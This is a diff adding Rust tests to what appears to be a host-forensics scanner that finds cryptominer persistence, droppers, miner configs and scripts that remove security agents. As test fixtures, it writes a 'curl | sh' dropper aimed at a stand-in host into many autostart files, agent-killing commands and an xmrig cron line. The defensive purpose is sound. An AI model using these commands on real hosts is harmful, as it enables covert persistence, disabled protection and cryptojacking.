@@ -61,7 +61,7 @@ fn what_an_intruder_left_is_found() {
         ("/opt/agent", ProtectionChange::AgentRemoved, "example-agent"),
         ("/etc/modules-load.d/net.conf", ProtectionChange::RootkitModule, "rk_example"),
     ] {
-        let expected = Protection { change, what: what.to_owned() };
+        let expected = Protection { change, what: what.to_owned(), ..Protection::default() };
         assert!(changes.contains(&(place, &expected)), "{place} {changes:?}");
     }
     assert_eq!(changes.len(), 6, "{changes:?}");
@@ -94,6 +94,188 @@ fn what_can_be_run_beside_a_configuration_is_named_with_it() {
         (*place, config.beside.as_slice()),
         ("/opt/svc/config.json", &["xmrig".to_owned()][..])
     );
+}
+
+#[test]
+fn a_dropper_is_found_in_every_place_that_starts_something() {
+    let root = tempfile::tempdir().unwrap();
+    let dropper = &b"#!/bin/sh\ncurl -s http://h.example/x | sh\n"[..];
+    let places = [
+        "/etc/NetworkManager/dispatcher.d/99-x",
+        "/etc/NetworkManager/dispatcher.d/pre-up.d/x",
+        "/etc/fish/conf.d/x.fish",
+        "/etc/fish/config.fish",
+        "/etc/network/if-up.d/x",
+        "/etc/ppp/ip-up.d/x",
+        "/etc/rc3.d/S99x",
+        "/etc/rcS.d/S01x",
+        "/etc/ssh/sshrc",
+        "/home/alice/.config/fish/conf.d/x.fish",
+        "/home/alice/.config/fish/config.fish",
+        "/home/alice/.ssh/rc",
+        "/home/alice/.xinitrc",
+        "/home/alice/.xsession",
+        "/home/alice/.zlogin",
+    ];
+    let passwd = &b"alice:x:1000:1000::/home/alice:/bin/sh\n"[..];
+    let inittab =
+        &b"id:3:initdefault:\nx:2345:respawn:+/bin/sh -c 'curl -s http://h.example/x | sh'\n"[..];
+    let mut files: Vec<_> = places.iter().map(|it| (*it, dropper)).collect();
+    let named = &b"#!/bin/sh\npkill xmrig\n/opt/x/xmrig &\n"[..];
+    files.extend([("/etc/passwd", passwd), ("/etc/inittab", inittab), ("/etc/rc.local", named)]);
+    write_all(root.path(), &files);
+    // A link into `init.d` is the same script and told once.
+    write_all(root.path(), &[("/etc/init.d/y", &b"#!/bin/sh\nexit 0\n"[..])]);
+    symlink("../init.d/y", root.path().join("etc/rc3.d/S50y")).unwrap();
+    let collected = inspect_root(root.path().to_path_buf());
+    let found: Vec<(&str, &Autostart)> = facts(&collected);
+    for place in places {
+        check(&found, &format!("{place}:2"), &["fetch-pipe-shell"], false);
+    }
+    check(&found, "/etc/inittab:2", &["fetch-pipe-shell"], false);
+    check(&found, "/etc/rc.local:3", &[], false);
+    assert_eq!(found.iter().filter(|it| it.0.ends_with('y')).count(), 1);
+    assert_eq!(found.len(), places.len() + 3);
+}
+
+#[test]
+fn a_script_that_removes_an_agent_is_told_and_the_agents_own_is_not() {
+    let root = tempfile::tempdir().unwrap();
+    write_all(
+        root.path(),
+        &[
+            ("/tmp/ldr.sh", b"#!/bin/sh\npkill x\nsystemctl stop agentd; rm -rf /opt/agent\n"),
+            ("/etc/cron.d/x", b"* * * * * root /opt/agent/uninstall.sh --token abc\n"),
+            ("/etc/rc.local", b"#!/bin/sh\n# pkill agentd\necho pkill agentd\nkillall agentd\n"),
+            ("/opt/agent/bin/off.sh", b"#!/bin/sh\npkill agentd\n"),
+            ("/etc/init.d/agentd", b"#!/bin/sh\nkillall agentd\n"),
+        ],
+    );
+    let collected = inspect_root(root.path().to_path_buf());
+    let found = facts::<Protection>(&collected).into_iter();
+    let scripted = found.filter(|it| it.1.change == ProtectionChange::RemovalScripted);
+    let found: Vec<_> = scripted
+        .map(|(place, it)| (place, it.what.as_str(), it.command.as_deref().unwrap_or_default()))
+        .collect();
+    assert_eq!(
+        found,
+        [
+            ("/etc/cron.d/x:1", "example-agent", "/opt/agent/uninstall.sh --token ***"),
+            ("/etc/rc.local:4", "example-agent", "killall agentd"),
+            ("/tmp/ldr.sh:3", "example-agent", "systemctl stop agentd; rm -rf /opt/agent"),
+        ]
+    );
+}
+
+#[test]
+fn what_starts_by_itself_is_kept_without_its_password_and_with_its_logins() {
+    let root = tempfile::tempdir().unwrap();
+    let table = b"@reboot root /opt/x -o pool.example:3333 -a rx/0 -u zhangsan.rig1 -p Secret123 \
+        --rig-id lab-7\n";
+    write_all(root.path(), &[("/etc/cron.d/x", table)]);
+    let collected = inspect_root(root.path().to_path_buf());
+    let [(_, entry)] = facts::<Autostart>(&collected)[..] else { panic!("one entry") };
+    assert!(!entry.command.contains("Secret123") && entry.command.contains("-p ***"));
+    assert_eq!(entry.logins, ["zhangsan.rig1", "lab-7"]);
+    let mut saved = Vec::new();
+    write_bundle(&collected, &mut saved).unwrap();
+    assert!(!String::from_utf8(saved).unwrap().contains("Secret123"), "nor is it saved");
+}
+
+const CONFIG: &str =
+    r#"{"donate-level": 1, "randomx": {}, "pools": [{"url": "pool.example:3333", "user": "a"}]}"#;
+
+fn write_all(root: &Path, files: &[(&str, &[u8])]) {
+    for (path, content) in files {
+        let path = root.join(path.trim_start_matches('/'));
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, content).unwrap();
+    }
+}
+
+fn gaps(collected: &Collected, kind: FactKind) -> Vec<&str> {
+    let of_kind = collected.examined.iter().filter(|it| it.kind == kind);
+    of_kind.flat_map(|it| it.gaps.iter().map(String::as_str)).collect()
+}
+
+#[test]
+fn configurations_are_found_wherever_a_person_would_put_them() {
+    let root = tempfile::tempdir().unwrap();
+    let folders = [
+        "/data/m",
+        "/etc/m",
+        "/home/alice/Downloads/xmrig-6.21.0",
+        "/home/alice/a/b/c/d/e",
+        "/mining",
+        "/mnt/d/xmrig",
+        "/opt/a/b",
+        "/usr/share/x",
+        "/var/lib/m",
+        "/var/www/html/m",
+    ];
+    let files: Vec<_> = folders.iter().map(|it| format!("{it}/config.json")).collect();
+    let files: Vec<_> = files.iter().map(|it| (it.as_str(), CONFIG.as_bytes())).collect();
+    write_all(root.path(), &files);
+    let collected = inspect_root(root.path().to_path_buf());
+    let mut found: Vec<&str> =
+        facts::<MinerConfig>(&collected).into_iter().map(|it| it.0).collect();
+    found.sort_unstable();
+    assert_eq!(found, files.iter().map(|it| it.0).collect::<Vec<_>>());
+    assert_eq!(gaps(&collected, FactKind::MinerConfig), [""; 0], "nothing was left out");
+}
+
+#[test]
+fn program_files_with_a_miners_name_are_found_and_others_are_not_opened() {
+    let root = tempfile::tempdir().unwrap();
+    let (elf, exe, script) = (&b"\x7fELF"[..], &b"MZ"[..], &b"#!/bin/sh\n"[..]);
+    write_all(
+        root.path(),
+        &[
+            ("/usr/bin/xmrig", elf),
+            ("/home/alice/a/b/XMRig-6.21.0", elf),
+            ("/opt/t-rex/bin/x/t-rex.exe", exe),
+            ("/usr/local/bin/xmrig", script),
+            ("/usr/bin/xmrigger", elf),
+            ("/usr/share/doc/xmrig", b"a text"),
+            ("/usr/share/xmrig/README", elf),
+        ],
+    );
+    let collected = inspect_root(root.path().to_path_buf());
+    let mut found: Vec<_> =
+        facts::<FileTrace>(&collected).iter().map(|it| (it.0, it.1.shape.as_str())).collect();
+    found.sort_unstable();
+    assert_eq!(
+        found,
+        [
+            ("/home/alice/a/b/XMRig-6.21.0", "program-named"),
+            ("/opt/t-rex/bin/x/t-rex.exe", "program-named"),
+            ("/usr/bin/xmrig", "program-named"),
+            ("/usr/local/bin/xmrig", "script-named"),
+        ]
+    );
+}
+
+#[test]
+fn what_a_bound_cuts_off_is_named_and_the_same_each_time() {
+    let root = tempfile::tempdir().unwrap();
+    for package in 0..300 {
+        let path = root.path().join(format!("usr/lib/cache/{package}/inner"));
+        fs::create_dir_all(path).unwrap();
+    }
+    write_all(root.path(), &[("/home/alice/a/b/c/d/config.json", CONFIG.as_bytes())]);
+    let limits = HostLimits { search_names: 400, ..HostLimits::offline() };
+    let options = HostOptions {
+        root: Some(root.path().to_path_buf()),
+        interest: interest(),
+        limits,
+        ..HostOptions::default()
+    };
+    let collected = inspect_with(&options);
+    assert_eq!(facts::<MinerConfig>(&collected).len(), 1, "the narrow path comes first");
+    let expected = ["budget", "not-searched:/usr/lib"];
+    assert_eq!(gaps(&collected, FactKind::MinerConfig), expected);
+    assert_eq!(gaps(&collected, FactKind::FileTrace), expected);
+    assert_eq!(inspect_with(&options).observations, collected.observations);
 }
 
 #[test]
